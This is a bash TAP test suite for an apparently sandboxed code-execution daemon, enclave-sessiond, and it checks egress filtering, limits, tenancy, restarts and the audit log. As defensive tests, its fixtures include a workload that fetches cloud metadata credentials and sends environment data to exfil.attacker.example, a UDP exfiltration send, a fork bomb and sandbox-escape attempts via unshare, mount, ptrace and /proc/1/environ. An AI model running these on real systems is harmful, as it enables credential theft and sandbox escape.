#!/bin/bash
# tests/lab/sessiond.sh - TAP: enclave-sessiond end to end. A whole
# appliance (`enclavectl lab up`: lab + inet namespaces, proxyd, sessiond)
# driven through its real API with real workloads: results, allowed and
# denied egress and their audit sequence, timeout, OOM, fork bomb, output
# cap, escapes that must fail, tenancy, bad requests, DELETE, 429, the TCP
# listener's bearer keys, a sessiond killed mid-session and restarted, and
# the audit chain (verified, then tampered with).
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"

top_build=${abs_top_builddir:-$(cd "$here/../.." && pwd)}
top_src=${abs_top_srcdir:-$(cd "$here/../.." && pwd)}
CTL=$top_build/ctl/enclavectl
SESSIOND=$top_build/sessiond/enclave-sessiond
export ENCLAVE_BUILDDIR=$top_build
export ENCLAVE_LAB_SCRIPT=$top_src/ctl/enclave-lab

lab_preflight
for f in "$CTL" "$SESSIOND"; do
	if [ ! -x "$f" ]; then
		echo "1..1"
		echo "not ok 1 - $f built (make check builds it)"
		exit 1
	fi
done
tap_plan 80

NAME=s$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
T=$(mktemp -d /tmp/enclave-sessiond-test.XXXXXX)
chmod 0755 "$T"
UID_B=$((310000 + RANDOM))	# tenant "other": a uid no host process uses
UID_X=$((UID_B + 1))		# mapped to no tenant at all
cleanup() {
	[ -n "${SMALL_PID:-}" ] && kill -KILL "$SMALL_PID" 2>/dev/null
	# The full-disk check binds a tiny tmpfs's file over the audit log.
	[ -n "${D:-}" ] && umount "$D/audit.log" 2>/dev/null
	[ -n "${T:-}" ] && umount "$T/small" 2>/dev/null
	"$CTL" lab down "$NAME" >/dev/null 2>&1
	rm -rf -- "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

cat >"$T/extra.conf" <<EOF
tenant other uid $UID_B
max_sessions 4
binding restricted secret_file /nonexistent/secret
binding restricted host restricted.test
binding restricted tenant other
EOF
if ! "$CTL" lab up --name "$NAME" --tcp --sessiond-conf-extra "$T/extra.conf" \
	>"$T/up.out" 2>"$T/up.err"; then
	tap_diag "$(tail -20 "$T/up.err")"
	tap_bail "enclavectl lab up failed"
fi
val() { sed -n "s/^$1=//p" "$T/up.out"; }
S=$(val ENCLAVE_SOCKET)
D=$(val ENCLAVE_LAB_DIR)
URL=$(val ENCLAVE_URL)
KEY=$(val ENCLAVE_API_KEY)
LNS=${NAME}lab
tap_check "lab up prints the socket, lab dir and TCP listener" \
	test -S "$S" -a -d "$D" -a -n "$URL" -a -n "$KEY"


# --- basics ------------------------------------------------------------
is "health is 200 with proxyd connected" "200 True" \
	"$(api GET /v1/health) $(js 'd["proxyd"]')"
api GET /v1/backends >/dev/null
is "the namespace backend is listed and available" "True" \
	"$(js '[b["available"] for b in d["backends"] if b["name"]=="namespace"][0]')"

run python 'import enclave
print("hello from python")
enclave.result({"n": 42, "s": "ok"})'
is "POST with wait returns 201 and the finished session" "201 succeeded 0" \
	"$(cat "$T/status") $(js 'd["phase"]') $(js 'd["exit_code"]')"
is "the result is the workload's JSON" '{"n": 42, "s": "ok"}' "$(js 'json.dumps(d["result"])')"
is "stdout is captured" "hello from python" "$(js 'd["stdout"].strip()')"
tap_check "usage has cpu, wall and peak memory" \
	test "$(js 'int(d["usage"]["wall_ms"] > 0 and d["usage"]["mem_peak_bytes"] > 0)')" = 1
OK_ID=$(js 'd["id"]')
is "its audit: created, started, result, exited, metered" \
	"session_created,sandbox_started,result_collected,workload_exited,usage_metered" "$(types "$OK_ID")"

run sh 'curl -s -o /dev/null -w "%{http_code} " http://allowed.test/; curl -s --cacert /dev/null -k -o /dev/null -w "%{http_code}" https://allowed.test/'
is "allowed egress from the sandbox: HTTP and HTTPS to allowed.test" "200 200" "$(js 'd["stdout"]' "$T/last")"
ALLOW_ID=$(js 'd["id"]' "$T/last")
api GET "/v1/sessions/$ALLOW_ID/audit" >/dev/null
is "the lookup and both connections are egress_allowed events" "allowed.test:dns allowed.test:http allowed.test:tls" \
	"$(js '" ".join(sorted(set("%s:%s" % (e["data"]["host"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_allowed")))')"
tap_check "egress bytes are metered from proxyd" test "$(js 'int(d["usage"]["egress_bytes"] > 0)' "$T/last")" = 1

if command -v node >/dev/null 2>&1; then
	run node 'const e = require("enclave"); e.result({lang: "node"});'
	is "a node session returns its result" "succeeded node" \
		"$(js 'd["phase"]') $(js 'd["result"]["lang"]')"
else
	tap_skip "a node session returns its result" "node is not installed"
fi

# --- the seed's hostile workload ---------------------------------------
cat >"$T/hostile.py" <<'EOF'
import enclave
import os, json, urllib.request

try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
except Exception as e:
    print("metadata fetch blocked:", e)

try:
    urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(os.environ.keys()))
except Exception as e:
    print("exfil blocked:", e)

enclave.result({"egressAttempted": True})
EOF
run python "$(cat "$T/hostile.py")"
H_ID=$(js 'd["id"]' "$T/last")
cp "$T/last" "$T/h_first"
# Straight again: proxyd must not take the new session's lookup for a
# repeat of the last one's (a freed record reused at the same address).
run python "$(cat "$T/hostile.py")"
is "hostile workload twice back to back: both audited in full" \
	"session_created,sandbox_started,egress_denied,egress_denied,result_collected,workload_exited,usage_metered" \
	"$(types "$(js 'd["id"]' "$T/last")")"
cp "$T/h_first" "$T/last"
is "hostile workload: succeeded, with its result" "succeeded True" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["result"]["egressAttempted"]' "$T/last")"
is "hostile workload: the exact audit type sequence" \
	"session_created,sandbox_started,egress_denied,egress_denied,result_collected,workload_exited,usage_metered" \
	"$(types "$H_ID")"
cp "$T/body" "$T/h_audit"
is "denied: the metadata IP (blocked_range) and the exfil host (DNS)" \
	"169.254.169.254:blocked_range:http exfil.attacker.example:not_allowlisted:dns" \
	"$(js '" ".join("%s:%s:%s" % (e["data"]["host"], e["data"]["reason"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_denied")' "$T/h_audit")"
SECRET=$(cat "$D/secrets/demo-token" 2>/dev/null)
tap_check "the appliance holds a JWT-shaped brokered secret" test "${SECRET#eyJ}" != "$SECRET"
leak=0
for f in "$T/last" "$T/h_audit" "$D/audit.log" "$D/sessiond.log" "$D/proxyd.log"; do
	grep -q -F -- "$SECRET" "$f" && leak=1 && tap_diag "secret found in $f"
	grep -q -E 'eyJ[A-Za-z0-9_-]{8,}' "$f" && leak=1 && tap_diag "a JWT found in $f"
done
is "no secret in the session, its audit, the logs" 0 "$leak"
is "the workload's environment holds nothing secret" "" \
	"$(js '[l for l in d["stdout"].splitlines() if "exfil" in l and ("TOKEN" in l or "KEY" in l or "SECRET" in l)] and "leak" or ""' "$T/last")"

run python 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"exfil", ("198.18.1.66", 9999))'
api GET "/v1/sessions/$(js 'd["id"]' "$T/last")/audit" >/dev/null
is "UDP past the proxy: dropped by the table, audited from NFLOG" "198.18.1.66:9999:udp:protocol_not_allowed" \
	"$(js '" ".join("%s:%s:%s:%s" % (e["data"]["host"], e["data"].get("port"), e["data"]["proto"], e["data"]["reason"]) for e in d["events"] if e["type"]=="egress_denied")')"

# --- limits ---------------------------------------------------------------
start=$(date +%s%N)
run sh 'sleep 30' '{"timeout_ms": 700}'
el=$((($(date +%s%N) - start) / 1000000))
is "timeout: timed_out, killed by SIGKILL" "timed_out 9" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["signal"]' "$T/last")"
tap_check "timeout: answered within 5 s ($el ms)" test "$el" -lt 5000
is "timeout: workload_exited says timed_out" True \
	"$(types "$(js 'd["id"]' "$T/last")" >/dev/null; js '[e["data"]["timed_out"] for e in d["events"] if e["type"]=="workload_exited"][0]')"

run python 'x = bytearray(512 * 1024 * 1024)
print("allocated")' '{"memory_mb": 64}'
is "OOM: failed, killed, the error names the memory limit" "failed 9 1" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["signal"]' "$T/last") $(js 'int("memory" in (d["error"] or ""))' "$T/last")"
tap_check "OOM: never printed" test "$(js 'd["stdout"]' "$T/last")" = ""

run python 'import os, time
n = 0
try:
    for i in range(1000):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        n += 1
except OSError as e:
    print("refused after", n)' '{"pids": 16, "timeout_ms": 10000}'
is "fork bomb: the pids limit refuses forks, the session ends" "succeeded refused" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["stdout"].split()[0] if d["stdout"] else ""' "$T/last")"

run sh 'head -c 100000 /dev/zero | tr "\0" x; echo >&2 err' '{"output_bytes": 4096}'
is "output cap: stdout kept to the cap, flagged truncated" "4096 True False" \
	"$(js 'len(d["stdout"])' "$T/last") $(js 'd["stdout_truncated"]' "$T/last") $(js 'd["stderr_truncated"]' "$T/last")"

run sh 'enclave-result "{not json"'
is "invalid result JSON: a clear error in the session" "succeeded 1" \
	"$(js 'd["phase"]' "$T/last") $(js 'int("not valid JSON" in d["result_error"])' "$T/last")"

# --- escapes that must fail ---------------------------------------------
cat >"$T/escape.py" <<EOF
import ctypes, os, socket, enclave
libc = ctypes.CDLL(None, use_errno=True)
r = {}
r["unshare"] = libc.unshare(0x10000000 | 0x00020000) == 0    # NEWUSER|NEWNS
r["mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
r["ptrace"] = libc.ptrace(16, 1, None, None) == 0             # ATTACH to init
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); r["raw"] = True
except OSError:
    r["raw"] = False
try:
    r["host_environ"] = b"ENCLAVE_TEST_MARK" in open("/proc/1/environ", "rb").read()
except OSError:
    r["host_environ"] = False
try:
    s = socket.socket(socket.AF_UNIX); s.connect("$S"); r["sessiond_socket"] = True
except OSError:
    r["sessiond_socket"] = False
r["sessiond_socket_visible"] = os.path.exists("$S")
enclave.result(r)
EOF
run python "$(cat "$T/escape.py")"
is "escapes: unshare, mount, ptrace, raw socket, host environ, sessiond socket all fail" \
	'{"host_environ": false, "mount": false, "ptrace": false, "raw": false, "sessiond_socket": false, "sessiond_socket_visible": false, "unshare": false}' \
	"$(js 'json.dumps(d["result"], sort_keys=True)' "$T/last")"

# --- tenancy ----------------------------------------------------------------
is "tenant other cannot read tenant default's session" "404 not_found" \
	"$(api --uid "$UID_B" GET "/v1/sessions/$OK_ID") $(js 'd["error"]["code"]')"
is "... nor its audit" 404 "$(api --uid "$UID_B" GET "/v1/sessions/$OK_ID/audit")"
is "... nor delete it" 404 "$(api --uid "$UID_B" DELETE "/v1/sessions/$OK_ID")"
is "... and its list holds none of them" "200 0" \
	"$(api --uid "$UID_B" GET /v1/sessions) $(js 'len(d["sessions"])')"
is "operator endpoints refuse a tenant: /v1/rules" "403 forbidden" \
	"$(api --uid "$UID_B" GET /v1/rules) $(js 'd["error"]["code"]')"
is "... and /v1/audit" 403 "$(api --uid "$UID_B" GET /v1/audit)"
is "a uid mapped to no tenant is refused" "401 unauthorized" \
	"$(api --uid "$UID_X" GET /v1/sessions) $(js 'd["error"]["code"]')"
body sh 'echo b'
is "tenant other runs its own session" "201 other" \
	"$(api --uid "$UID_B" POST /v1/sessions "$T/req") $(js 'd["tenant"]')"
is "the operator reads the ruleset" "200 1" \
	"$(api GET /v1/rules) $(js 'int("table inet enclave" in d["text"])')"

# --- bad requests: status and error code ---------------------------------
bad() { # NAME STATUS CODE BODY
	printf '%s' "$4" >"$T/bad"
	is "bad request: $1" "$2 $3" "$(api POST /v1/sessions "$T/bad") $(js 'd["error"]["code"]')"
}
bad "malformed JSON" 400 invalid_json '{"language":"sh",'
bad "unknown field" 400 invalid_request '{"language":"sh","code":"true","colour":"red"}'
bad "wrong type" 400 invalid_request '{"language":"sh","code":7}'
bad "unknown language" 400 unknown_language '{"language":"cobol","code":"x"}'
bad "unknown backend" 400 unknown_backend '{"language":"sh","code":"true","backend":"vax"}'
bad "invalid allow pattern" 400 invalid_allow_pattern '{"language":"sh","code":"true","egress":{"allow":["*."]}}'
is "the invalid pattern error names the pattern" 1 "$(js 'int("\"*.\"" in d["error"]["message"])')"
bad "limit out of range" 400 invalid_request '{"language":"sh","code":"true","limits":{"memory_mb":1}}'
bad "unknown binding" 400 unknown_binding '{"language":"sh","code":"true","bindings":["nope"]}'
bad "a binding the tenant may not use" 403 forbidden_binding '{"language":"sh","code":"true","bindings":["restricted"]}'
body sh 'env; echo; cat /proc/self/cmdline' '' '{"bindings": ["demo-token"], "egress": {"allow": []}}'
is "a bound session: its binding's hosts are allowed, the secret is nowhere in it" "201 succeeded api.test 0" \
	"$(api POST /v1/sessions "$T/req") $(js 'd["phase"]') $(js '",".join(d["egress"]["allow"])') $(grep -c -F -- "$(cat "$D/secrets/demo-token")" "$T/body")"
python3 -c 'import json; print(json.dumps({"language":"sh","code":"#"*(5*1024*1024)}))' >"$T/big"
is "bad request: body over its cap" "413 too_large" "$(api POST /v1/sessions "$T/big") $(js 'd["error"]["code"]')"
is "unknown endpoint: JSON 404" "404 not_found" "$(api GET /v1/nope) $(js 'd["error"]["code"]')"

# --- 429, DELETE -------------------------------------------------------------
ids=()
for i in 1 2 3 4; do
	body sh 'sleep 30' '' '{"wait": false}'
	api POST /v1/sessions "$T/req" >/dev/null
	ids+=("$(js 'd["id"]')")
done
body sh 'true'
is "too many sessions: 429" "429 too_many_sessions" \
	"$(api POST /v1/sessions "$T/req") $(js 'd["error"]["code"]')"
is "DELETE of a running session: 204" 204 "$(api DELETE "/v1/sessions/${ids[0]}")"
is "... then it is gone" 404 "$(api GET "/v1/sessions/${ids[0]}")"
is "... and its audit ends killed and torn down" "True,session_torn_down" \
	"$(types "${ids[0]}" >/dev/null; js '"%s,%s" % ([e["data"]["killed"] for e in d["events"] if e["type"]=="workload_exited"][0], d["events"][-1]["type"])')"
for id in "${ids[@]:1}"; do api DELETE "/v1/sessions/$id" >/dev/null; done

# --- the TCP listener ------------------------------------------------------
tcp() { ip netns exec "$LNS" curl -s -o "$T/body" -w '%{http_code}' --max-time 10 "$@"; }
is "TCP listener: no key is 401" 401 "$(tcp "$URL/v1/sessions")"
is "TCP listener: a wrong key is 401" 401 "$(tcp -H "Authorization: Bearer nope" "$URL/v1/sessions")"
is "TCP listener: the key works" 200 "$(tcp -H "Authorization: Bearer $KEY" "$URL/v1/sessions")"

# --- sessiond killed mid-session, restarted ---------------------------------
body sh 'sleep 60' '' '{"wait": false}'
api POST /v1/sessions "$T/req" >/dev/null
R_ID=$(js 'd["id"]')
SPID=$(cat "$D/sessiond.pid")
kill -KILL "$SPID"
for _ in $(seq 50); do kill -0 "$SPID" 2>/dev/null || break; sleep 0.1; done
setsid nsenter --net="/run/netns/$LNS" "$SESSIOND" -c "$D/sessiond.conf" \
	>>"$D/sessiond.log" 2>&1 </dev/null &
echo $! >"$D/sessiond.pid"
for _ in $(seq 100); do [ "$(api GET /v1/health)" = 200 ] && break; sleep 0.1; done
api GET "/v1/sessions/$R_ID" >/dev/null
is "restart: the running session ended in error, with the reason" "error 1" \
	"$(js 'd["phase"]') $(js 'int("restarted" in d["error"])')"
is "restart: no session netns left" "" "$(ls /run/netns | grep -E "^${NAME}s[0-9]+$")"
is "restart: no session veth left" "" "$(ip -n "$LNS" -o link show | grep -oE "${NAME}h[0-9]+")"
is "restart: no session cgroup left" "" \
	"$(find /sys/fs/cgroup -maxdepth 6 -type d -name "enclave-${NAME}-*" 2>/dev/null)"
is "restart: no nft session element left" "" \
	"$(ip netns exec "$LNS" nft list set inet enclave session_ifaces | grep -oE "${NAME}h[0-9]+")"
is "restart: no state file left" "" "$(ls "$D/state/sessions")"
is "restart: the workload is gone" "" "$(pgrep -f 'sleep 60' -u 65534 2>/dev/null | head -1)"

# --- the audit chain ------------------------------------------------------
tap_check "audit verify: the log's chain holds" "$CTL" audit verify "$D/audit.log"
python3 - "$D/audit.log" "$T/tampered.log" <<'EOF'
import sys
lines = open(sys.argv[1]).read().splitlines(True)
lines[2] = lines[2].replace('"sandbox_started"', '"sandbox_startex"') if '"sandbox_started"' in lines[2] else lines[2].replace('"', "'", 1)
open(sys.argv[2], "w").write("".join(lines))
EOF
out=$("$CTL" audit verify "$T/tampered.log" 2>&1)
is "audit verify: a tampered line is found (exit 1, line 3)" "1 1" \
	"$? $(echo "$out" | grep -c 'line 3')"

# --- proxyd down: fail closed, unwind, reconnect ---------------------------
PPID_=$(cat "$D/proxyd.pid")
kill -KILL "$PPID_"
for _ in $(seq 50); do kill -0 "$PPID_" 2>/dev/null || break; sleep 0.1; done
for _ in $(seq 50); do [ "$(api GET /v1/health)" = 503 ] && break; sleep 0.1; done
is "proxyd down: health says so (503)" "503 False" "$(api GET /v1/health) $(js 'd["proxyd"]')"
run sh 'echo should-not-run'
F_ID=$(js 'd["id"]' "$T/last")
is "proxyd down: the session ends in error at the proxy step, never runs" "error 1 " \
	"$(js 'd["phase"]' "$T/last") $(js 'int(d["error"].startswith("proxy:"))' "$T/last") $(js 'd["stdout"]' "$T/last")"
is "proxyd down: its audit is created, then sandbox_failed" "session_created,sandbox_failed" "$(types "$F_ID")"
is "proxyd down: every earlier step was unwound" "" \
	"$(ls /run/netns | grep -E "^${NAME}s[0-9]+$"; ip -n "$LNS" -o link show | grep -oE "${NAME}h[0-9]+"; \
	  ip netns exec "$LNS" nft list set inet enclave session_ifaces | grep -oE "${NAME}h[0-9]+"; ls "$D/state/sessions")"
setsid ip netns exec "$LNS" "$top_build/proxyd/enclave-proxyd" -c "$D/proxyd.conf" \
	-r 198.18.0.2:53 -w 2 >>"$D/proxyd.log" 2>&1 </dev/null &
echo $! >"$D/proxyd.pid"
for _ in $(seq 100); do [ "$(api GET /v1/health)" = 200 ] && break; sleep 0.1; done
run sh 'curl -s -o /dev/null -w "%{http_code}" http://allowed.test/'
is "proxyd back: sessiond reconnects and sessions run again" "succeeded 200" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["stdout"]' "$T/last")"

# --- a clean stop ------------------------------------------------------------
body sh 'sleep 60' '' '{"wait": false}'
api POST /v1/sessions "$T/req" >/dev/null
STOP_ID=$(js 'd["id"]')
SPID=$(cat "$D/sessiond.pid")
kill -TERM "$SPID"
for _ in $(seq 150); do kill -0 "$SPID" 2>/dev/null || break; sleep 0.1; done
is "SIGTERM: sessiond ends its sessions and exits" "gone killed" \
	"$(kill -0 "$SPID" 2>/dev/null && echo running || echo gone) $(grep -c "$STOP_ID.*killed" "$D/sessiond.log" | sed 's/^1$/killed/')"
is "SIGTERM: nothing left behind" "" \
	"$(ls /run/netns | grep -E "^${NAME}s[0-9]+$"; ls "$D/state/sessions"; test -e "$S" && echo "socket left")"
# With --enable-asan/--enable-ubsan the daemon's report lands in its log.
is "no sanitizer report in sessiond's log" "" \
	"$(grep -E 'AddressSanitizer|LeakSanitizer|runtime error:' "$D/sessiond.log" | head -5)"

# --- the audit log's disk is full: fail closed ------------------------------
# A tmpfs just big enough for the log so far, filled up, its copy of the
# log bound over the real one; sessiond restarted on it.
size=$(( ($(stat -c %s "$D/audit.log") / 4096 + 4) * 4096 ))
mkdir -p "$T/small"
mount -t tmpfs -o "size=$size" tmpfs "$T/small" &&
	cp "$D/audit.log" "$T/small/audit.log" &&
	{ dd if=/dev/zero of="$T/small/fill" bs=1k 2>/dev/null; true; } &&
	mount --bind "$T/small/audit.log" "$D/audit.log"
setsid nsenter --net="/run/netns/$LNS" "$SESSIOND" -c "$D/sessiond.conf" \
	>>"$D/sessiond.log" 2>&1 </dev/null &
SMALL_PID=$!
echo "$SMALL_PID" >"$D/sessiond.pid"
for _ in $(seq 100); do [ -S "$S" ] && [ "$(api GET /v1/health)" != 000 ] && break; sleep 0.1; done
# The log's last page has room for a few events: sessions run until an
# append fails; from then on none does.
body sh 'true'
codes=""
for _ in $(seq 30); do
	c=$(api POST /v1/sessions "$T/req")
	codes="$codes $c"
	[ "$c" = 503 ] && break
done
is "disk full under the audit log: sessions are refused (503 audit_unavailable)" \
	"503 audit_unavailable" "$c $(js 'd["error"]["code"]')"
is "... health says the audit is down" "503 False" "$(api GET /v1/health) $(js 'd["audit"]')"
body sh 'echo should-not-run'
is "... and stays closed: the next one never runs, nothing is left behind" "503 0" \
	"$(api POST /v1/sessions "$T/req") $(ls /run/netns | grep -cE "^${NAME}s[0-9]+$")"
rm -f "$T/small/fill"
code=$(api POST /v1/sessions "$T/req")
if [ "$code" = 201 ]; then
	is "space again: sessiond reopens the log and runs sessions" "succeeded" "$(js 'd["phase"]')"
	tap_ok "$("$CTL" audit verify "$D/audit.log" >/dev/null 2>&1; echo $?)" "... and the chain still verifies"
else
	# A write that stopped mid-line leaves a torn tail: it stays closed
	# until an operator repairs the log, which is fail closed too.
	is "space again: the log is reopened, or it stays closed because its tail is torn" \
		"503 audit_unavailable" "$code $(js 'd["error"]["code"]')"
	tap_diag "$(grep 'audit' "$D/sessiond.log" | tail -3)"
	tap_ok "$("$CTL" audit verify "$D/audit.log" >/dev/null 2>&1; [ $? = 1 ]; echo $?)" \
		"... and audit verify names the torn line"
fi
kill -TERM "$SMALL_PID" 2>/dev/null
for _ in $(seq 100); do kill -0 "$SMALL_PID" 2>/dev/null || break; sleep 0.1; done
SMALL_PID=""

tap_done
